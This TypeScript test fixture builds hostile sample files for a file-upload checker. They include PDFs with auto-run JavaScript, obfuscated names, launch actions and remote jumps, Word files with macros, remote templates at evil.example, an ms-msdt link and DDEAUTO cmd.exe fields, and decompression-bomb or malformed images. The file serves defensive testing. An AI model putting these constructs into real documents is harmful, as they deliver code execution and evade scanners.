import { deflateSync } from "node:zlib";
import { compoundFile } from "./compound-file.ts";
import { pdf, samples, TYPES } from "./files.ts";
import { objectStream, pdfOf, pdfWith, stream } from "./pdf-files.ts";
import { JPEG, png, riff, WEBP, withJpegSize } from "./pictures.ts";
import { doc, docx, relation } from "./word-files.ts";

/** Files of an accepted type that nobody should have to open, each with a part of the reason that the student reads. */
type HostileFile = readonly [what: string, bytes: Buffer, type: string, reason: string];

const SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>";
const ascii85 = () => Buffer.from("GhVa7~>");

export const hostilePdfs: readonly HostileFile[] = [
  ["a script on opening", pdfWith(`/OpenAction ${SCRIPT}`), TYPES.pdf, "a script"],
  [
    "a script with an escaped name",
    pdfWith("/OpenAction << /S /J#61vaScript /JS (1) >>"),
    TYPES.pdf,
    "a script",
  ],
  [
    "a script with a name that only Chromium decodes",
    pdfWith("/AA << /S /#3QavaScript >>"),
    TYPES.pdf,
    "a script",
  ],
  ["a script in an object stream", pdfWith("", objectStream(SCRIPT)), TYPES.pdf, "a script"],
  [
    "a script in an object stream with escaped keys",
    pdfWith("", objectStream(SCRIPT, "/Type /Obj#53tm /N 1 /F#69rst 4 /Filter /FlateDecode")),
    TYPES.pdf,
    "cannot be checked",
  ],
  [
    "a script in an object stream without a type",
    pdfWith("", objectStream(SCRIPT, "/N 1 /First 4 /Filter /FlateDecode")),
    TYPES.pdf,
    "a script",
  ],
  [
    "an object stream that is compressed twice",
    pdfWith(
      "",
      objectStream(SCRIPT, "/N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", (data) =>
        deflateSync(deflateSync(data)),
      ),
    ),
    TYPES.pdf,
    "cannot be checked",
  ],
  [
    "an object stream in another encoding",
    pdfWith("", objectStream(SCRIPT, "/N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]", ascii85)),
    TYPES.pdf,
    "cannot be checked",
  ],
  [
    "an object stream whose filter is elsewhere",
    pdfWith("", objectStream(SCRIPT, "/N 1 /First 4 /Filter 8 0 R")),
    TYPES.pdf,
    "cannot be checked",
  ],
  [
    "an object stream with a predictor behind a comment",
    pdfWith(
      "",
      objectStream(
        SCRIPT,
        "/DecodeParms << /Predictor 2 >> % 1 0 obj <<\n /N 1 /First 4 /Filter /FlateDecode",
      ),
    ),
    TYPES.pdf,
    "cannot be checked",
  ],
  [
    "an object stream whose dictionary has a string",
    pdfWith("", objectStream(SCRIPT, "/N 1 /First 4 /X (>> stream) /Filter /FlateDecode")),
    TYPES.pdf,
    "cannot be checked",
  ],
  [
    "an object stream that expands to 100 MB",
    pdfWith("", objectStream(" ".repeat(100 * 1024 * 1024))),
    TYPES.pdf,
    "cannot be checked",
  ],
  ["a script in a form of LiveCycle", pdfWith("/AcroForm << /XFA 4 0 R >>"), TYPES.pdf, "a script"],
  [
    "a launch action",
    pdfWith("/OpenAction << /S /Launch /F (calc.exe) >>"),
    TYPES.pdf,
    "other files or programs",
  ],
  [
    "a jump into another file",
    pdfWith("/OpenAction << /S /GoToR /F (//host/x) >>"),
    TYPES.pdf,
    "other files",
  ],
  [
    "an embedded file",
    pdfWith("/Names << /EmbeddedFiles 4 0 R >>", stream("/Type /EmbeddedFile", Buffer.from("MZ"))),
    TYPES.pdf,
    "contains other files",
  ],
  [
    "an attachment of a page",
    pdfWith("", "<< /Subtype /FileAttachment >>"),
    TYPES.pdf,
    "contains other files",
  ],
  ["an associated file", pdfWith("/AF [<< /EF << /F 4 0 R >> >>]"), TYPES.pdf, "contains other files"],
  ["a password", pdfOf(["<< /Type /Catalog >>"], "/Encrypt 2 0 R "), TYPES.pdf, "protected"],
  [
    "a script after the end of another file",
    Buffer.concat([pdf(), pdfWith(`/AA ${SCRIPT}`)]),
    TYPES.pdf,
    "a script",
  ],
  ["no objects", Buffer.from("%PDF-1.7\n<html><script>alert(1)</script></html>"), TYPES.pdf, "damaged"],
];

const MACRO_TYPE = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
const VBA_STORAGE = compoundFile([
  { name: "VBA", parts: [{ name: "dir" }, { name: "_VBA_PROJECT" }] },
  { name: "PROJECT" },
]);
const OBJECT = compoundFile([{ name: "\x01Ole10Native", data: Buffer.from("MZ") }]);
const typeInUtf16 = Buffer.concat([
  Buffer.from([0xff, 0xfe]),
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-16"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${MACRO_TYPE}</Types>`,
    "utf16le",
  ),
]);
const field = (...texts: string[]) =>
  `<w:fldChar/>${texts.map((text) => `<w:instrText xml:space="preserve">${text}</w:instrText>`).join("")}<w:fldChar/>`;

export const hostileWordFiles: readonly HostileFile[] = [
  ["macros", docx({ parts: [{ name: "word/vbaProject.bin", contents: VBA_STORAGE }] }), TYPES.docx, "macros"],
  [
    "macros of another name",
    docx({ parts: [{ name: "word/media/a.png", contents: VBA_STORAGE }] }),
    TYPES.docx,
    "macros",
  ],
  [
    "the type of a document with macros",
    docx({ mainType: "application/vnd.ms-word.document.macroEnabled.main+xml" }),
    TYPES.docx,
    "macros",
  ],
  [
    "a macro type in character references",
    docx({ types: MACRO_TYPE.replace("vba", "v&#98;&#x61;") }),
    TYPES.docx,
    "macros",
  ],
  [
    "a macro type in UTF-16",
    docx({ parts: [{ name: "[Content_Types].xml", contents: typeInUtf16 }] }),
    TYPES.docx,
    "macros",
  ],
  [
    "an entity of its own",
    docx({ parts: [{ name: "word/settings.xml", contents: '<!DOCTYPE x [<!ENTITY e "v">]><x>&e;</x>' }] }),
    TYPES.docx,
    "cannot be checked",
  ],
  [
    "a template elsewhere",
    docx({ relations: relation("attachedTemplate", "https://evil.example/x.dotm", "External") }),
    TYPES.docx,
    "a template or other content",
  ],
  [
    "a template elsewhere, in single quotes",
    docx({ relations: relation("attachedTemplate", "//evil/x", "External").replaceAll('"', "'") }),
    TYPES.docx,
    "a template",
  ],
  [
    "a frame elsewhere",
    docx({ relations: relation("frame", "https://evil.example/x", "External") }),
    TYPES.docx,
    "a template or other content",
  ],
  [
    "a picture elsewhere",
    docx({ relations: relation("image", "https://evil.example/x.png", "External") }),
    TYPES.docx,
    "a template or other content",
  ],
  [
    "a mode in character references",
    docx({ relations: relation("image", "x", "&#69;xternal") }),
    TYPES.docx,
    "a template or other content",
  ],
  [
    "a relation with a prefix",
    docx({ relations: relation("frame", "x", "External").replace("<", "<é:") }),
    TYPES.docx,
    "a template or other content",
  ],
  [
    "a link that starts a program",
    docx({ relations: relation("hyperlink", "ms-msdt:/id PCWDiagnostic", "External") }),
    TYPES.docx,
    "a template or other content",
  ],
  [
    "a DDE field",
    docx({ body: field("DD", 'EAUTO c:\\\\cmd.exe "/k calc"') }),
    TYPES.docx,
    "a template or other content",
  ],
  [
    "an embedded object",
    docx({ relations: relation("oleObject", "x.bin"), parts: [{ name: "word/x.bin", contents: OBJECT }] }),
    TYPES.docx,
    "other files or objects",
  ],
  [
    "an embedded workbook",
    docx({ parts: [{ name: "word/embeddings/a.xlsx", contents: samples.docx }] }),
    TYPES.docx,
    "other files or objects",
  ],
  [
    "an embedded page",
    docx({ relations: relation("aFChunk", "x.html") }),
    TYPES.docx,
    "other files or objects",
  ],
  [
    "a control",
    docx({ parts: [{ name: "word/activeX/activeX1.xml", contents: "<x/>" }] }),
    TYPES.docx,
    "other files or objects",
  ],
  [
    "a part that expands to more than it says",
    docx({ parts: [{ name: "word/a.xml", contents: " ".repeat(10_000), claimedBytes: 10 }] }),
    TYPES.docx,
    "cannot be checked",
  ],
  [
    "two parts of one name",
    docx({
      parts: [
        { name: "word/a.xml", contents: "<a/>" },
        { name: "WORD/A.xml", contents: "<b/>" },
      ],
    }),
    TYPES.docx,
    "not of type",
  ],
  [
    "old macros",
    doc({ parts: [{ name: "Macros", parts: [{ name: "VBA", parts: [{ name: "dir" }] }] }] }),
    TYPES.doc,
    "macros",
  ],
  [
    "old macros in another folder",
    doc({ parts: [{ name: "Data", parts: [{ name: "_vba_project" }] }] }),
    TYPES.doc,
    "macros",
  ],
  [
    "an old embedded object",
    doc({ parts: [{ name: "ObjectPool", parts: [{ name: "_1", parts: [] }] }] }),
    TYPES.doc,
    "other files or objects",
  ],
  [
    "an old equation",
    doc({ parts: [{ name: "Pool", parts: [{ name: "Equation Native" }] }] }),
    TYPES.doc,
    "other files or objects",
  ],
  [
    "an old template elsewhere",
    doc({ template: "https://evil.example/x.dot" }),
    TYPES.doc,
    "a template or other content",
  ],
  ["an old DDE field", doc({ text: "\x13 DDEAUTO c:\\\\cmd.exe" }), TYPES.doc, "a template or other content"],
  ["a password in an old document", doc({ flags: 0x300 }), TYPES.doc, "protected"],
  ["macros of Word 95", doc({ version: 0x65 }), TYPES.doc, "cannot be checked"],
];

export const hostilePictures: readonly HostileFile[] = [
  ["a PNG of too many pixels", png({ width: 16_000, height: 16_000 }), TYPES.png, "too many pixels"],
  ["a PNG with a bomb", png({ pixelBytes: 50_000_000 }), TYPES.png, "damaged"],
  ["a PNG with too few pixels", png({ pixelBytes: 71 }), TYPES.png, "damaged"],
  ["a PNG with a changed byte", flip(png(), 20), TYPES.png, "damaged"],
  ["a PNG without its end", png().subarray(0, -12), TYPES.png, "damaged"],
  ["a JPEG of too many pixels", withJpegSize(60_000, 60_000), TYPES.jpeg, "too many pixels"],
  ["a JPEG without pixels", withJpegSize(0, 8), TYPES.jpeg, "damaged"],
  ["a JPEG that was cut off", JPEG.subarray(0, -10), TYPES.jpeg, "damaged"],
  [
    "only the head of a JPEG",
    Buffer.concat([JPEG.subarray(0, 20), Buffer.from("<script>")]),
    TYPES.jpeg,
    "damaged",
  ],
  ["a WebP that was cut off", WEBP.subarray(0, -10), TYPES.webp, "damaged"],
  ["a WebP of nothing", riff([["VP8X", Buffer.alloc(10)]]), TYPES.webp, "damaged"],
  [
    "a WebP of too many pixels",
    riff([["VP8L", Buffer.from("2fffffffff0000000000000000", "hex")]]),
    TYPES.webp,
    "too many pixels",
  ],
];

function flip(bytes: Buffer, at: number): Buffer {
  bytes[at] = (bytes[at] as number) ^ 1;
  return bytes;
}
